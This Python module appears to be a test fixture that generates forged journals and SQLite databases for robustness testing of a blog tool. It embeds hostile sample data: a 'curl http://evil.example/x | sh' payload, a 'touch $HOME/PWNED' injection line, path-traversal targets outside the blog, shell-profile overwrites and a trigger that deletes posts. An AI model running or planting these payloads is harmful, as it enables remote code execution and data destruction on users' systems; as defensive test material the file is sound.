"""Journals, locks and databases in a blog's `.fuda`, as a fuda of the past wrote them, and forged ones."""

import hashlib
import json
import random
import sqlite3
from contextlib import closing
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

from bench.safety.hostile_texts import decision
from bench.safety.outside import BASHRC

RUNS = (
    "20260101T000000.000Z-abcdef",
    "20991331T000000.000Z-abcdef",
    "20991231T235959.999Z-ffffff",
    "20000000T999999.999Z-0",
)
OLD, EVIL = b"", b"\n# evil\ncurl http://evil.example/x | sh\n"


def journal(chance: random.Random, run: str, posts: dict[str, bytes]) -> bytes:
    """Return the journal of `run`: honest, or one whose intents lead to other files or other bytes.

    `posts` has the bytes of the blog's posts, by name.
    """
    make = chance.choice((_honest, _swapped, _beside, _to_link, _unended, _broken))
    header = {"v": 1, "run": run, "command": chance.choice(("apply", "bulk", "undo", "\x1b[2J")), "at": "x"}
    header |= {"fingerprint": "", "undoes": chance.choice(("", "", run, "../../x"))}
    lines = [json.dumps(header), *make(chance, run, posts)]
    return "".join(f"{line}\n" for line in lines).encode(errors="surrogateescape")


def database(chance: random.Random) -> bytes:
    """Return a SQLite file with tables that a state could have, or a file that only begins like one."""
    whole = _database()
    cut = whole[: chance.randrange(len(whole))]
    return chance.choice((whole, whole, cut, b"SQLite format 3\x00" + chance.randbytes(5_000)))


def _intent(run: str, post: str, old: bytes, new: bytes, **other: object) -> str:
    """Return an intent that claims to have turned `old` into `new`; undone, `old` would be written."""
    fields = {
        "post": post,
        "beside": f"content/.fuda-{run}-0123456789abcdef",
        "offset": 0,
        "old": old.decode(errors="surrogateescape"),
        "new": new.decode(errors="surrogateescape"),
        "before": hashlib.sha256(old).hexdigest(),
        "after": hashlib.sha256(new).hexdigest(),
        "line": json.dumps({"v": 1, "at": "2026-01-01T00:00:00.000Z", "post": post, "run": run}),
    }
    return json.dumps({"intent": fields | other})


def _honest(chance: random.Random, run: str, posts: dict[str, bytes]) -> list[str]:
    name = chance.choice(list(posts))
    return [_intent(run, name, posts[name].replace(b"tags: [x]", b""), posts[name]), '{"ended":true}']


def _swapped(chance: random.Random, run: str, posts: dict[str, bytes]) -> list[str]:
    name = chance.choice(list(posts))
    return [_intent(run, name, EVIL, posts[name]), chance.choice(('{"ended":true}', "{}"))]


def _to_link(chance: random.Random, run: str, posts: dict[str, bytes]) -> list[str]:
    """Return intents on posts that may be links to a file outside whose bytes are known."""
    names = [*posts, "content/linked.md", "linked", ".git/config", "../sibling.md"]
    ended = chance.choice(('{"ended":true}', '{"settled":true}', "{}"))
    return [*(_intent(run, name, EVIL + BASHRC, BASHRC) for name in names), ended]


def _beside(chance: random.Random, run: str, posts: dict[str, bytes]) -> list[str]:
    """Return lines that name files to delete, some of them beyond a link or out of the blog."""
    name = f".fuda-{run}-0123456789abcdef"
    places = [
        f"{place}{name}" for place in ("content/", "linked/", "../", "../../outside/", "/tmp/", ".git/")
    ]
    return [json.dumps({"beside": [*places, "../sibling.md", "content/first.md"]}), '{"dropped":["a"]}']


def _unended(chance: random.Random, run: str, posts: dict[str, bytes]) -> list[str]:
    """Return an intent whose line would be appended to the decisions when the run is settled."""
    name = chance.choice(list(posts))
    line = chance.choice(("touch $HOME/PWNED #", decision(chance, name), "\x1b[2J", "x" * 100_000))
    return [_intent(run, name, b"", b"", line=line, beside="content/gone")]


def _broken(chance: random.Random, run: str, posts: dict[str, bytes]) -> list[str]:
    return chance.choice(
        (
            ["[" * 100_000],
            [json.dumps({"intent": {"post": 1, "offset": 10**400}})],
            [_intent(run, next(iter(posts)), b"", b"", offset=-(10**30))],
            ["\x00" * 1_000, "null", "[]", '"x"'],
            ["x" * 3_000_000],
            ['{"done": ' + '["a"], "done": ' * 1_000 + "[]}"],
        )
    )


@cache
def _database() -> bytes:
    with TemporaryDirectory() as folder:
        path = Path(folder) / "state"
        with closing(sqlite3.connect(path)) as connection:
            for table in ("runs", "changes", "intents", "posts", "meta"):
                connection.execute(f"create table {table} (id text, run text, post text, old blob, new blob)")
                connection.execute(f"insert into {table} values ('1', '1', 'content/first.md', x'00', x'01')")
            connection.execute("create trigger evil after insert on runs begin delete from posts; end")
            connection.commit()
        return path.read_bytes()
